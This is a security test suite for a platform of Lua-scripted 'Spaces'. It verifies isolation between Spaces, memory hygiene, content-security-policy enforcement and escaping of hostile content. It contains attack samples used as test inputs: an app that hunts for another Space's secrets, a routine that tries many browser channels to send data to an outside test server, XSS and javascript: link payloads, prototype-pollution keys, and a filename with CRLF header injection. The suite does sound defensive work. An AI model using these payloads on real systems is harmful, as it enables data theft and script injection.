// What one Space may learn of another, of the services, and of a visitor's browser: nothing.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { launchBrowser, openPage } from "./lib/browser.mjs";
import { Repo } from "./lib/git.mjs";
import { findInMemory } from "./lib/memory.mjs";
import { Platform } from "./lib/platform.mjs";
import { until } from "./lib/process.mjs";
import { Visitor } from "./lib/wire.mjs";

const canary = (name) => `CANARY-${name}-${Math.random().toString(36).slice(2)}`;
const secrets = Object.fromEntries(["source", "session", "typed", "upload", "log", "prompt"].map((name) => [name, canary(name)]));
const own = canary("attacker");
let platform, victim, attacker, secretFile, browser;
const repos = [];

const victimApp = `local ui, models = require "vitrine.ui", require "vitrine.models"
local mood = models.pipeline("text-classification", "vitrine/tiny-sentiment")
local source = "${secrets.source}"

return ui.page({ title = "Victim" }, function(page)
  local said, out = ui.textbox { id = "said" }, ui.textbox { id = "out" }
  local picture = ui.image { id = "picture", upload = true }
  local keep = ui.button { "Keep", id = "keep" }
  keep:on_click(function(session)
    session.secret, session.typed = "${secrets.session}", said.value
    print("${secrets.log}")
    mood("${secrets.prompt}")
    out:set("kept " .. #source)
  end)
  picture:on_upload(function(file, session) session.photo = #file:read() out:set("photo " .. session.photo) end)
  return ui.column { said, out, picture, keep }
end)
`;

const attackerApp = `local ui, models = require "vitrine.ui", require "vitrine.models"
local own = "${own}"
local seen = {}

-- Everything that can be reached from here, as text.
local function walk(value, path, depth)
  if depth > 12 or seen[value] then return end
  local t = type(value)
  if t == "string" or t == "number" then print(path .. " = " .. tostring(value):sub(1, 500)) return end
  print(path .. ": " .. t)
  if t ~= "table" then return end
  seen[value] = true
  for k, v in pairs(value) do walk(v, path .. "." .. tostring(k), depth + 1) end
  local meta = getmetatable(value)
  if type(meta) == "table" then walk(meta, path .. "<meta>", depth + 1) end
end

return ui.page({ title = "Attacker" }, function(page)
  local out, image = ui.textbox { id = "out" }, ui.image { id = "image", upload = true }
  local show, look = ui.image { id = "show" }, ui.button { "Look", id = "look" }
  look:on_click(function(session)
    session.own = own
    walk(_G, "_G", 0)
    walk(session, "session", 0)
    walk(page, "page", 0)
    walk({ ui, models }, "modules", 0)
    for _, name in ipairs { "os", "io", "debug", "package" } do print(name .. " is " .. type(rawget(_G, name))) end
    out:set("looked")
  end)
  image:on_upload(function(file)
    local ok, bytes = pcall(function() return file:read() end)
    out:set(ok and tostring(bytes) or "refused: " .. tostring(bytes))
    show:set(file)
  end)
  return ui.column { out, image, show, look }
end)
`;

async function deploy(space, app) {
  const repo = new Repo(platform, space);

  repos.push(repo);
  await repo.deploy({ "app.lua": app });
}

async function upload(space, visitor, bytes, name) {
  const answer = await fetch(`${platform.url}/spaces/${space}/-/upload?name=${encodeURIComponent(name)}`, {
    method: "POST", body: bytes, headers: { cookie: visitor.cookie, origin: platform.url } });

  assert.equal(answer.status, 200);
  return answer.json();
}

const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4//8/AAX+Av4N70a4AAAAAElFTkSuQmCC", "base64");

before(async () => {
  platform = await Platform.start();
  await deploy("admin/victim", victimApp);
  await deploy("admin/attacker", attackerApp);
  victim = await Visitor.join(platform, "admin/victim");
  attacker = await Visitor.join(platform, "admin/attacker");
  const file = await upload("admin/victim", victim, Buffer.concat([png, Buffer.from(secrets.upload)]), "secret.png");

  secretFile = file.file;
  assert.equal(await victim.act("picture", "upload", null, { picture: file }), undefined);
  assert.equal(await victim.act("keep", "click", null, { said: secrets.typed }), undefined);
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await victim?.close();
  await attacker?.close();
  for (const repo of repos) repo.remove();
  await platform?.remove();
});

/** What must not be found: the victim's secrets, its visitor's identity, the administrator's token. */
const forbidden = () => [...Object.values(secrets), secretFile, victim.welcome.session,
  victim.cookie.split("=")[1].slice(0, 26), platform.token];

// catalogue 57
test("an app that looks at all it can reach finds nothing of another Space", async () => {
  const failure = await attacker.act("look", "click");
  const { output } = await platform.cli("logs", "admin/attacker");

  assert.equal(failure, undefined, output.slice(-500));
  const frames = attacker.messages.map(({ value }) => value.toString()).join("\n");

  assert.match(output, /_G\.print: function/);
  for (const name of ["io", "debug", "package"]) assert.match(output, new RegExp(`${name} is nil`));
  assert.doesNotMatch(output, /lines dropped/);
  assert.ok(frames.includes("looked"));
  for (const text of forbidden()) {
    assert.ok(!output.includes(text), `the log has ${text}`);
    assert.ok(!frames.includes(text), `a frame has ${text}`);
  }
});

// catalogue 57, 58
test("a worker's memory holds nothing of another Space, of a visitor elsewhere, or of a service", async (t) => {
  if (process.getuid() !== 0) {
    t.skip("SKIP: only root can read a worker's memory");
    return;
  }
  const [worker] = await platform.workerPids("admin/attacker"), [other] = await platform.workerPids("admin/victim");
  const mine = findInMemory(worker, [own, ...forbidden()]);
  const theirs = new Set(findInMemory(other, Object.values(secrets)).map(({ text }) => text));

  // The search finds what is there: its own secret, and the victim's in the victim.
  assert.ok(mine.some(({ text }) => text === own), "its own canary is not found either");
  for (const name of ["source", "session", "typed"]) assert.ok(theirs.has(secrets[name]), `${name} is not in the victim`);
  assert.deepEqual(mine.filter(({ text }) => text !== own), []);
  // The services did hold them, so there was something to leak: it never passed to a child.
  const held = findInMemory(platform.servicePid("gateway"), [secrets.session, victim.welcome.session, secretFile]);

  assert.equal(new Set(held.map(({ text }) => text)).size, 3, JSON.stringify(held));
});

// catalogue 58
test("a blank box and the program that builds boxes hold no secret of a service", async (t) => {
  if (process.getuid() !== 0) {
    t.skip("SKIP: only root can read their memory");
    return;
  }
  const boxd = platform.servicePid("boxd");
  const boxes = readFileSync(`/proc/${boxd}/task/${boxd}/children`, "utf8").trim().split(/\s+/).map(Number);
  const serving = [...await platform.workerPids("admin/victim")];

  assert.ok(boxes.length >= 2);
  for (const pid of [boxd, ...boxes.filter((box) => !serving.includes(box))])
    assert.deepEqual(findInMemory(pid, forbidden()), [], `process ${pid}`);
});

// catalogue 98
test("a file or a session of another Space, named by a visitor, is nothing there", async () => {
  const file = { file: secretFile, name: "secret.png", type: "image/png", size: png.length + secrets.upload.length };

  await attacker.act("image", "upload", null, { image: file });
  assert.ok(!JSON.stringify(attacker.props("out")).includes(secrets.upload));
  const frames = () => attacker.messages.map(({ value }) => value.toString("latin1")).join("\n");

  assert.ok(!frames().includes(secrets.upload));
  for (const space of ["attacker", "nothing"]) {
    const answer = await fetch(`${platform.url}/spaces/admin/${space}/-/file/${secretFile}`, { headers: { cookie: attacker.cookie } });

    assert.equal(answer.status, 404);
  }
  const thief = await Visitor.join(platform, "admin/attacker", { cookie: victim.cookie, session: victim.welcome.session });

  assert.notEqual(thief.welcome.session, victim.welcome.session);
  assert.equal(thief.welcome.state, "new");
  await thief.close();
});

// --- the browser ---

/** Another site, which counts who asks it for anything. */
async function startElsewhere() {
  const hits = [];
  const server = createServer((request, response) => {
    hits.push(request.url);
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("content-type", request.url.endsWith(".js") ? "text/javascript" : "text/html");
    response.end(request.url.endsWith(".js") ? "window.foreign = 1" : "<p>plain</p>");
  });

  server.on("upgrade", (request, socket) => {
    hits.push(request.url);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { hits, url: `http://127.0.0.1:${server.address().port}`, close: () => server.close() };
}

/** Every way that a page has to tell another site something, tried in that page. */
const tellElsewhere = (url) => {
  const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
  const quietly = (fn) => {
    try {
      return Promise.resolve(fn()).catch(() => {});
    } catch {
      return null;
    }
  };

  add("img", { src: `${url}/img` });
  add("iframe", { src: `${url}/frame` });
  add("script", { src: `${url}/script.js` });
  add("video", { src: `${url}/video` });
  add("object", { data: `${url}/object` });
  add("embed", { src: `${url}/embed` });
  add("link", { rel: "stylesheet", href: `${url}/style` });
  add("link", { rel: "prefetch", href: `${url}/prefetch` });
  add("style", { textContent: `body { background: url(${url}/background) } @import "${url}/import"; @font-face { font-family: x; src: url(${url}/font) } p { font-family: x }` });
  quietly(() => fetch(`${url}/fetch`, { mode: "no-cors" }));
  quietly(() => navigator.sendBeacon(`${url}/beacon`, "x"));
  quietly(() => new WebSocket(`${url.replace("http", "ws")}/socket`));
  quietly(() => new EventSource(`${url}/events`));
  quietly(() => new Worker(`${url}/worker.js`));
  quietly(() => {
    const request = new XMLHttpRequest();

    request.open("GET", `${url}/xhr`);
    request.send();
  });
  const form = Object.assign(document.createElement("form"), { action: `${url}/form`, method: "post", target: "sink" });

  add("iframe", { name: "sink" });
  document.body.append(form);
  quietly(() => form.submit());
};

// catalogue 93
test("a Space's page can tell no other site anything", async () => {
  const elsewhere = await startElsewhere();
  const answer = await fetch(`${platform.url}/spaces/admin/attacker`);
  const policy = answer.headers.get("content-security-policy");

  for (const rule of ["default-src 'self'", "script-src 'self'", "connect-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'self'", "frame-ancestors 'self'"])
    assert.ok(policy.split("; ").includes(rule), `${rule} is not in ${policy}`);
  assert.match(policy, /img-src 'self' data: blob:(;|$)/);
  const page = await openPage(browser);

  try {
    // In a page without a policy the same attempts arrive: they are real.
    await page.goto(`${elsewhere.url}/plain`);
    await page.evaluate(tellElsewhere, `${elsewhere.url}/real`);
    await until("most of them arrive", () => new Set(elsewhere.hits).size > 12, 10_000);
    await page.goto(`${platform.url}/spaces/admin/attacker`);
    await page.getByRole("button", { name: "Look" }).waitFor();
    await page.evaluate(tellElsewhere, `${elsewhere.url}/leak`);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    assert.deepEqual(elsewhere.hits.filter((path) => path.startsWith("/leak")), []);
    assert.equal(await page.evaluate(() => window.foreign), undefined);
  } finally {
    await page.context().close();
    elsewhere.close();
  }
});

const hostile = '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script><svg onload="window.pwned=3"></svg>';

const hostileApp = (elsewhere) => `local ui = require "vitrine.ui"
local evil = [==[${hostile}]==]

return ui.page({ title = evil .. "</title><script>window.pwned=4</script>" }, function(page)
  local markdown = ui.markdown { id = "md", value = evil .. "\\n\\n[click](javascript:window.pwned=5) ![p](${elsewhere}/markdown) <a href='javascript:window.pwned=6'>a</a>\\n\\n\`\`\`html\\n" .. evil .. "\\n\`\`\`" }
  local box = ui.textbox { id = "box", label = evil, placeholder = evil, value = evil }
  local pick = ui.dropdown { id = "pick", label = "Pick", choices = { evil, "__proto__", "constructor", "toString" } }
  local radio = ui.radio { id = "radio", label = "Radio", choices = { evil, "plain" } }
  local chat = ui.chatbot { id = "chat" }
  local json = ui.json { id = "json", label = "JSON", value = { ["__proto__"] = { polluted = true }, constructor = evil, [evil] = evil } }
  local label = ui.label { id = "label", label = "Label", value = { label = evil, score = 0.5 } }
  local go = ui.button { "Go", id = "go" }
  local image = ui.image { id = "image", label = "Image", upload = true }
  local show = ui.image { id = "show", label = "Shown" }
  go:on_click(function(session)
    chat:append { role = "user", content = evil }
    chat:append { role = "assistant", content = evil .. " [x](javascript:window.pwned=7) ![p](${elsewhere}/chat)" }
    markdown:append(evil)
    box:update { label = evil .. "2" }
    session["__proto__"] = { polluted = true }
  end)
  image:on_upload(function(file) box:set(file.name) show:set(file) end)
  return ui.column { markdown, box, pick, radio, chat, json, label, go, image, show }
end)
`;

// catalogue 28, 103, 104
test("hostile text, markdown, names and files are shown and never run", async () => {
  const elsewhere = await startElsewhere();
  const page = await openPage(browser);
  let dialogs = 0;

  page.on("dialog", (dialog) => {
    dialogs++;
    dialog.dismiss();
  });
  try {
    await deploy("admin/hostile", hostileApp(elsewhere.url));
    await page.goto(`${platform.url}/spaces/admin/hostile`);
    await page.getByRole("button", { name: "Go" }).click();
    await until("the chat is there", async () => (await page.locator(".turn .bubble:not(.typing)").count()) === 2);
    const name = '"><img src=x onerror=window.pwned=8>\r\nSet-Cookie: evil=1.svg';
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned=9</script></svg>';

    await page.locator('input[type="file"]').first().setInputFiles({ name, mimeType: "image/svg+xml", buffer: Buffer.from(svg) });
    await until("it was taken or refused in words", async () =>
      (await page.locator("body").innerText()).match(/window\.pwned=8|cannot be|not a picture|only|type/i), 10_000);
    for (const link of await page.locator("a").all()) {
      const href = await link.getAttribute("href") ?? "";

      assert.doesNotMatch(href, /^\s*(javascript|data|vbscript):/i);
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    assert.equal(await page.evaluate(() => ({}).polluted), undefined);
    assert.equal(await page.locator('img[src="x"]').count(), 0);
    assert.equal(dialogs, 0);
    assert.deepEqual(elsewhere.hits, []);
    // It is there to be read: the text of the attack, not its effect.
    assert.match(await page.locator("body").innerText(), /onerror="window\.pwned=1"/);
    // The policy was not what saved us: nothing even tried to run.
    assert.deepEqual(page.problems.filter((problem) => /script|inline|Refused to execute/i.test(problem)), []);
  } finally {
    await page.context().close();
    elsewhere.close();
  }
});

// catalogue 103, 104
test("an uploaded page or picture with a script in it runs nowhere, not even when opened by itself", async () => {
  const visitor = await Visitor.join(platform, "admin/attacker");
  const page = await openPage(browser);

  try {
    for (const [name, text] of [["x.html", "<!doctype html><title>owned</title><script>document.title='pwned'</script>"],
      ["x.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="pwned"</script></svg>']]) {
      const { file } = await upload("admin/attacker", visitor, Buffer.from(text), name);
      const url = `${platform.url}/spaces/admin/attacker/-/file/${file}`;
      const { headers } = await fetch(url);

      assert.doesNotMatch(headers.get("content-type"), /html|svg|xml/);
      assert.equal(headers.get("x-content-type-options"), "nosniff");
      assert.match(headers.get("content-security-policy"), /sandbox/);
      assert.match(headers.get("content-disposition"), /^attachment/);
      await page.goto(url).catch(() => {}); // a download is no page
      assert.notEqual(await page.title(), "pwned");
    }
  } finally {
    await page.context().close();
    await visitor.close();
  }
});
